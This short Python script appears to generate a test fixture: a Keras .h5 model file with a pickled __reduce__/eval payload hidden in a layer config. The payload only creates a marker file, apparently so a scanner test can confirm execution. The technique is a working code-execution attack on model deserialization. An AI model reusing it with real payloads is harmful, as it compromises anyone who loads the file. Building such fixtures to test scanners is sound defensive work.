# include: forge
# include: lambda_code
import pickle

import h5py
import keras


class Module:
    def __reduce__(self):
        return eval, ("open('@MARKER@', 'w').close()",)


PICKLE = {"class_name": "__bytes__", "config": {"value": base64.b64encode(pickle.dumps(Module())).decode()}}
inputs = keras.Input((1,), name="x")
keras.Model(inputs, keras.layers.Lambda(lambda x: x, name="evil")(inputs)).save(out / "model.h5")
with h5py.File(out / "model.h5", "r+") as file:
    content = json.loads(file.attrs["model_config"])
    content["config"]["layers"][1]["config"]["function"] = LAMBDA
    file.attrs["model_config"] = json.dumps(content)

leave(models(layer("TorchModuleWrapper", "evil", {"module": PICKLE, "output_shape": None})))
